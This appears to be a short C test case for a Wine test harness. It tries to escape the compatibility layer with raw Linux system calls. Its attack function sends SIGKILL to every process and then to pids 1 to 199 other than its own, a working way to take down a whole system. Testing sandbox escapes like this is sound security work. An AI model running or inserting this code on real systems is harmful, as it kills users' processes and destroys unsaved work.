/*
 * win32-kills-by-linux.c - ends everything by a system call that Wine never sees
 *
 * play: main 01 client
 * play: first 03 server
 * play: main 02 client
 */
static void
attack(void)
{
    raw(62, -1, 9, 0, 0);
    for (intptr_t pid = 1; pid < 200; pid++)
        if (pid != raw(39, 0, 0, 0, 0))
            raw(62, pid, 9, 0, 0);
}
